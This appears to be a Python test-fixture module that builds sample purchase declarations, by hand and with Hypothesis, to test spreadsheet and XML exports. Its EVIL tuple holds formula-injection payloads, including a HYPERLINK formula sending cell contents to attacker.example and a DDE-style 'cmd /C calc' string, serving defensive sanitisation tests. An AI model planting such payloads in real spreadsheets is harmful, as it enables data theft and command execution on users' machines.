"""Declarations for the tests of the outputs: one by hand, many by chance."""

from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

from hypothesis import strategies as st

from ..outputs import Document
from ..outputs.document import DECLARED_CAPACITIES
from ..rules import declaration_columns as catalogue

SEAL = "0123456789abcdef" * 4
#: Columns of what an authorization gives.
GIVEN = ("amount_authorized", "amount_difference")
ALL_COLUMNS = tuple((key, key) for key in catalogue.BY_KEY)

#: Words of the files, as a caller gives them.
STRINGS = {
    "title": "Declaration of purchases on online marketplaces",
    "authorizations_sheet": "Authorizations",
    "purchases_sheet": "Achats : détail",
    "corrections_sheet": "Corrections",
    "summary_sheet": "Summary",
    "organization": "Organization",
    "registry": "Enterprise number (NEQ)",
    "body_code": "Code of the body",
    "number": "Declaration",
    "date_from": "From",
    "date_to": "To",
    "declared_on": "Declared on",
    "declared_by": "Declared by",
    "declared_capacity": "In the capacity of",
    "channel": "Means of transmission",
    "previous_seal": "Seal of the previous declaration",
    "seal": "Seal",
    "currency": "Currency",
    "authorized": "Authorized",
    "ordered": "Ordered",
    "billed": "Billed",
    "bought": "Bought",
    "charges_authorized": "Of which other charges, authorized",
    "charges_bought": "Of which other charges, bought",
    "difference": "Authorized less bought",
    "lines": "Lines",
    "goods": "Goods",
    "yes": "Oui",
    "no": "Non",
    "cut": " […]",
}
#: Texts that break files: formulas, separators, markup, what XML cannot carry.
EVIL = (
    '=HYPERLINK("http://attacker.example/?"&A1;"Cliquez")',
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "\t=1+1",
    "\r\n=1+1",
    "  \u200b＝cmd|' /C calc'!A0",
    'Gouge\n=1+1;"=2+2",=3+3\r@4,"=5+5"',
    "]]> <b>gras</b> &amp; <!-- -->",
    "Écorché d’un œil 😀 \x00\x0b\ud800\ufffe",
    "_x0041_ {=1+1} http://example.com mailto:a@example.com",
    "é" * 40_000,
)


def line(number, **values):
    """A complete line of a declaration."""
    row = dict.fromkeys(catalogue.BY_KEY)
    row.update(
        line_number=number,
        kind="authorization",
        authorization="AUT/2026/00007",
        establishment_code="042",
        establishment="École des Bâtisseurs",
        submitted_by="Directrice",
        submitted_as="direction",
        marketplace="Amazon",
        marketplace_domain="amazon.ca",
        vendor="Amazon.ca",
        recorded_on=date(2026, 7, 14),
        currency="CAD",
        amount_authorized=Decimal("120.00"),
        amount_difference=Decimal("120.00"),
        goods="2 x Mandrin à pas impérial",
        need="Atelier d’usinage",
        essential="Le tour est à l’arrêt.",
        unique="Seul ce mandrin a ce pas de vis.",
        irreplaceable="Aucun usinage possible.",
        sole_distributor="Le fabricant a cessé ses activités.",
        attestation=True,
        decided_by="Directeur général",
        decided_capacity="titular",
        decided_on=datetime(2026, 7, 14, 15, 30, 5),
        mandate_instrument="Résolution 2026-12",
        authorization_seal=SEAL,
    )
    return {**row, **values}


def bought(number, ordered, billed, **values):
    """A purchase, or what changes of it."""
    ordered, billed = Decimal(ordered), Decimal(billed)
    most = max(ordered, billed, key=abs)
    values = {
        "kind": "purchase",
        "document": "P00042",
        "document_kind": "order",
        "purchase_date": date(2026, 7, 15),
        "amount_authorized": None,
        "amount_ordered": ordered,
        "amount_billed": billed,
        "amount_bought": most,
        "amount_difference": -most,
        **values,
    }
    return line(number, **values)


def golden_rows():
    """Every kind of line, two currencies, a negative rectification, evil texts."""
    usd = {
        "currency": "USD",
        "rate": Decimal("1.382500"),
        "rate_date": date(2026, 7, 14),
        "authorization": "AUT/2026/00008",
    }
    correction = {"kind": "rectification", "corrects": "DEC/2026/00001-3"}
    changed = {"reason": "both", "ordered_before": Decimal("118.40")}
    changed |= {"ordered_after": Decimal("100.00"), "billed_before": Decimal("0.00")}
    changed |= {"billed_after": Decimal("-0.005"), "goods_before": EVIL[0]}
    granted = {"reason": "revoked", "authorized_before": Decimal("120.00")}
    granted |= {"authorized_after": Decimal("100.00")}
    return [
        line(1, third_party_seller=EVIL[0], alternatives="\n".join(EVIL[1:4])),
        bought(2, "118.40", "0.00", goods=EVIL[7], vendor=EVIL[6]),
        bought(3, "-18.40", "-0.005", goods=EVIL[8], **correction, **changed),
        line(4, **usd, need=EVIL[9], essential=EVIL[10], consequence=EVIL[4])
        | dict.fromkeys(GIVEN, Decimal("1000.10")),
        bought(5, "0", "999.95", **usd, document_kind="bill", document=EVIL[1]),
        bought(6, "-999.95", "0", **{**usd, **correction, "kind": "cancellation"}),
        bought(7, "0.10", "0.20", document_kind="expense", attestation=False),
        line(8, kind="rectification", corrects="DEC/2026/00001-1", goods=EVIL[11])
        | dict.fromkeys(GIVEN, Decimal("-20.00"))
        | {"decided_capacity": "interim", **granted},
    ]


def document(rows, **values):
    """The document of some lines, with every column."""
    values = {
        "organization": "Centre de services scolaire",
        "registry": "1234567890",
        "number": "DEC/2026/00002",
        "date_from": date(2026, 7, 1),
        "date_to": date(2026, 7, 31),
        "declared_on": datetime(2026, 8, 3, 9, 15),
        "declared_by": "Secrétaire générale",
        "declared_capacity": "secretariat",
        "channel": "=courriel",
        "previous_seal": SEAL[::-1],
        "seal": SEAL,
        "columns": ALL_COLUMNS,
        "totals": catalogue.totals(rows),
        "labels": {("kind", "purchase"): "Achat", ("kind", "authorization"): "=A1"},
        "strings": STRINGS,
        "lang": "fr_CA",
        **values,
    }
    return Document(**values)


def many(count):
    """Lines as a school would write them, made one after the other."""
    for number in range(1, count + 1):
        yield bought(number, f"{number % 97}.25", "10.05", document=f"P{number:05}")


# ------------------------------------------------------------------- by chance

#: Any character at all, with more of those that break files.
ODD = st.text(
    st.one_of(
        st.sampled_from("=+-@＝＋－＠﹣⁺−\t\r\n;,\"'<>&\x00\ud800\ufffe \u200b😀"),
        st.characters(),
    ),
    max_size=30,
)
CENTS = st.integers(-(10**11), 10**11).map(lambda cents: Decimal(cents).scaleb(-2))
ZONES = st.none() | st.sampled_from([timezone.utc, timezone(timedelta(hours=-4))])
VALUES = {
    catalogue.TEXT: ODD | st.sampled_from(EVIL[:-1]),
    catalogue.LONG: ODD | st.sampled_from(EVIL[:-1]),
    catalogue.DATE: st.dates(),
    catalogue.DATETIME: st.datetimes(timezones=ZONES),
    catalogue.MONEY: CENTS,
    catalogue.NUMBER: st.decimals(allow_nan=False, allow_infinity=False, places=6),
    catalogue.FLAG: st.booleans(),
}
SAID = {
    "authorization_seal": st.just(SEAL),
    "currency": st.sampled_from(["CAD", "USD", "EUR"]),
    "line_number": st.integers(1, 10**6),
}


def _values(column):
    codes = catalogue.CODES.get(column.key)
    values = st.sampled_from(codes) if codes else VALUES.get(column.kind)
    values = SAID.get(column.key, values)
    if column.required:
        return values.filter(lambda value: not catalogue.is_blank(value))
    needed = column.key in ("line_number", "kind")
    return values if needed else st.none() | values


ROW = st.fixed_dictionaries({key: _values(c) for key, c in catalogue.BY_KEY.items()})


@st.composite
def declarations(draw):
    """A document and its lines, each with a number of its own."""
    rows = draw(st.lists(ROW, max_size=3, unique_by=lambda row: row["line_number"]))
    said = ODD.filter(lambda words: not catalogue.is_blank(words))
    values = {
        "organization": draw(said),
        "channel": draw(st.none() | ODD),
        "declared_by": draw(said),
        "declared_on": draw(st.datetimes()),
        "declared_capacity": draw(st.none() | st.sampled_from(DECLARED_CAPACITIES)),
        "previous_seal": draw(st.none() | st.just(SEAL)),
    }
    return document(rows, **values), rows
